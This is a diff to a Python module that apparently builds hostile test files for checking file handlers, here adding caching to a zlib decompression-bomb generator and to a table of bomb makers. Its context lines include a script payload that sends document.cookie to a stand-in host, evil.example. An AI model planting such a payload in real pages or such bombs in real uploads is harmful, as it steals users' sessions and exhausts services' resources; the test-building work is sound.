@@ -10,7 +10,7 @@ import struct
 import zipfile
 import zlib
 from collections.abc import Callable, Iterator
-from functools import partial
+from functools import cache, partial
 from typing import Final
 
 from PIL import Image
@@ -21,9 +21,10 @@ MIB: Final = 1024 * 1024
 SCRIPT: Final = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
 
 
+@cache
 def squeezed(length: int) -> bytes:
     """Zeros, as zlib writes them: a thousandth of their length."""
-    squeeze, piece = zlib.compressobj(9), bytes(MIB)
+    squeeze, piece = zlib.compressobj(6), bytes(MIB)
     parts = [squeeze.compress(piece) for _ in range(length // MIB)]
     return b"".join(parts) + squeeze.flush()
 
@@ -198,7 +199,8 @@ def _polyglots() -> Iterator[tuple[str, Callable[[], bytes]]]:
 
 
 BOMBS: Final = {
-    name: make
+    # Made when they are first wanted, and once.
+    name: cache(make)
     for group in (_big, _slow, _texts, _broken, _others, _polyglots)
     for name, make in group()
 }
